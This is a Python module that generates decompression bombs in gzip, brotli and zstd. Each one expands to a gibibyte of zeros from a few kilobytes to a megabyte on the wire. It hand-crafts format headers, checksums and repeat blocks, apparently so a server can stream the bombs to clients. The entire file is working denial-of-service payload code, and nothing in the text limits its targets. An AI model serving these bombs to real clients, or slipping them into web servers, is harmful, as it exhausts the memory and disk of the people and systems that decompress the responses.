"""Compression bombs: a gibibyte of zeros each, sent from a block that is compressed once. The server never holds the
gibibyte.

gzip     a mebibyte, flushed so that it is independent, 1 024 times: 1 MB on the wire
brotli   a mebibyte in the encoder's steady state, 1 023 times after the first: 13 KB on the wire
zstd     one frame of blocks that mean "this byte, 131 072 times": 33 KB on the wire
"""

import zlib
from collections.abc import Iterator

import brotli

MEBIBYTE = 1 << 20
BOMB_BYTES = 1 << 30
COUNT = BOMB_BYTES // MEBIBYTE
CHECKSUM_OF_A_BOMB = 0x5B64C2B0  # crc32 of a gibibyte of zeros
AT_ONCE = 32  # mebibytes per write

ZSTD_BLOCK_BYTES = 1 << 17
ZSTD_HEAD = bytes.fromhex("28b52ffd 00 50")  # no length, no checksum, a window of a mebibyte
ZSTD_REPEAT, ZSTD_LAST = 0b010, 0b011  # type of a block, and whether it is the last


def gzip_bomb() -> Iterator[bytes]:
    """A gibibyte of zeros in gzip."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(MEBIBYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    yield bytes.fromhex("1f8b0800000000000203")
    for _ in range(COUNT // AT_ONCE):
        yield block * AT_ONCE
    yield packer.flush() + CHECKSUM_OF_A_BOMB.to_bytes(4, "little") + (BOMB_BYTES % 2**32).to_bytes(4, "little")


def brotli_bomb() -> Iterator[bytes]:
    """A gibibyte of zeros in brotli."""
    packer = brotli.Compressor(quality=5)
    zeros = bytes(MEBIBYTE)
    yield packer.process(zeros) + packer.flush()
    steady = packer.process(zeros) + packer.flush()
    yield steady * (COUNT - 1)
    yield packer.finish()


def zstd_bomb() -> Iterator[bytes]:
    """A gibibyte of zeros in zstd."""
    head, last = ((ZSTD_BLOCK_BYTES << 3 | kind).to_bytes(3, "little") + b"\0" for kind in (ZSTD_REPEAT, ZSTD_LAST))
    yield ZSTD_HEAD + head * (BOMB_BYTES // ZSTD_BLOCK_BYTES - 1) + last
